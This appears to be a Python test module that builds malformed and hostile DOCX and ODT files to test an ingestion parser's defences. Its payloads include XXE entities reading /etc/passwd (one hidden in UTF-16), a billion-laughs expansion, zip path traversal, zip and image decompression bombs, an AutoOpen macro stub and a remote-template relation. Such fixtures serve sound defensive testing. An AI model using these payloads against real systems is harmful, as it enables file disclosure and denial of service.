"""Word and OpenDocument files that are made to harm, or that only look like it; generated, none is kept."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

from tests.ingest.making import LONG, make_docx, repack, update_docx
from tests.ingest.raw_pdf import zeros
from tests.ingest.test_odt import odt

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CELL = b"<w:tc><w:p/></w:tc>"


def document_xml(change: Callable[[bytes], bytes]) -> bytes:
    return repack(make_docx(update_docx), {"word/document.xml": change})


def large_xml(size: int = 600_000_000) -> bytes:
    """A Word document of 1.4 MB with 600 MB of XML."""
    out = BytesIO()
    with ZipFile(BytesIO(make_docx(update_docx))) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != "word/document.xml":
                new.writestr(name, old.read(name))
        with new.open("word/document.xml", "w", force_zip64=True) as entry:
            entry.write(f'<w:document xmlns:w="{W}"><w:body>'.encode())
            part = b"<w:p><w:r><w:t>a</w:t></w:r></w:p>" * 30_000
            for _ in range(size // len(part)):
                entry.write(part)
            entry.write(b"</w:body></w:document>")
    return out.getvalue()


def much_markup() -> bytes:
    """One that keeps below every limit on a package, and takes ten times as much once parsed."""
    paragraphs = b"".join(b'<w:p a="%d"/>' % number for number in range(700_000))
    head = f'<w:document xmlns:w="{W}"><w:body>'.encode()
    return document_xml(lambda _: head + paragraphs + b"</w:body></w:document>")


def wide_cell() -> bytes:
    cell = b'<w:tc><w:tcPr><w:gridSpan w:val="100000000"/></w:tcPr><w:p/></w:tc>'
    return with_table(b"<w:tbl><w:tr>" + cell + b"</w:tr></w:tbl>")


def large_table(rows: int = 1_000) -> bytes:
    return with_table(b"<w:tbl>" + (b"<w:tr>" + CELL * 200 + b"</w:tr>") * rows + b"</w:tbl>")


def with_table(table: bytes) -> bytes:
    return document_xml(lambda xml: xml.replace(b"<w:sectPr", table + b"<w:sectPr"))


def nested_tables(depth: int) -> bytes:
    return with_table(b"<w:tbl><w:tr><w:tc>" * depth + b"<w:p/>" + b"<w:p/></w:tc></w:tr></w:tbl>" * depth)


def laughs() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{entities}]>'.encode()
    return document_xml(
        lambda xml: head + xml[xml.index(b"<w:document") :].replace(LONG[:9].encode(), b"&e9;")
    )


def outside_entity() -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return document_xml(
        lambda xml: head + xml[xml.index(b"<w:document") :].replace(LONG[:9].encode(), b"&e;")
    )


def deep_xml() -> bytes:
    return document_xml(lambda _: f'<w:document xmlns:w="{W}"><w:body>'.encode() + b"<w:p>" * 20_000)


def many_entries() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_STORED) as package:
        for number in range(50_000):
            package.writestr(f"{number}.xml", b"")
    return out.getvalue()


def way_out() -> bytes:
    out = BytesIO(make_docx(update_docx))
    with ZipFile(out, "a") as package:
        package.writestr("../../../outside.xml", b"<a/>")
    return out.getvalue()


def zip_in_zip() -> bytes:
    out = BytesIO(make_docx(update_docx))
    with ZipFile(out, "a", ZIP_DEFLATED) as package:
        for number in range(2):
            package.writestr(f"word/media/{number}.zip", zlib.decompress(zeros(45_000_000)))
    return out.getvalue()


def forged_size() -> bytes:
    """A package whose directory says that a 50 MB part has ten bytes."""
    data = large_part()
    size = (50_000_000).to_bytes(4, "little")
    return data.replace(size, (10).to_bytes(4, "little"))


def large_part() -> bytes:
    out = BytesIO(make_docx(update_docx))
    with ZipFile(out, "a", ZIP_DEFLATED) as package:
        package.writestr("word/extra.xml", bytes(50_000_000))
    return out.getvalue()


def with_parts(parts: dict[str, bytes]) -> bytes:
    out = BytesIO(make_docx(update_docx))
    with ZipFile(out, "a", ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def thousands_of_parts() -> bytes:
    return with_parts({f"word/media/{number}.png": b"\x89PNG" for number in range(1_800)})


def huge_image() -> bytes:
    """A picture that says it is 200,000 pixels wide and high; 160 GB once unpacked."""
    header = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (200_000).to_bytes(4, "big") * 2 + b"\x08\x06\0\0\0"
    return with_parts({"word/media/image1.png": header + zeros(1_000_000)})


def macros() -> bytes:
    return with_parts({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 Sub AutoOpen()"})


def outside_template() -> bytes:
    """A document whose template lies on another machine, as those that steal passwords have it."""
    relation = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
    )
    return repack(
        make_docx(update_docx),
        {"word/_rels/document.xml.rels": lambda xml: xml.replace(b"</Relationships>", relation)},
    )


def hidden_doctype() -> bytes:
    """A declaration that hides in UTF-16, where a search for its ASCII finds nothing."""
    head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return document_xml(lambda xml: (head + xml[xml.index(b"<w:document") :].decode()).encode("utf-16"))


def odt_outside_entity() -> bytes:
    head = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return repack(odt(f"<text:p>{LONG} &e;</text:p>"), {"content.xml": lambda xml: head + xml})


def odt_many_cells() -> bytes:
    """A row that says it is repeated a million times, with cells that say the same."""
    cell = '<table:table-cell table:number-columns-repeated="1000000"><text:p>x</text:p></table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="1000000">{cell}</table:table-row>'
    return odt(f"<text:p>{LONG}</text:p><table:table>{row}</table:table>")
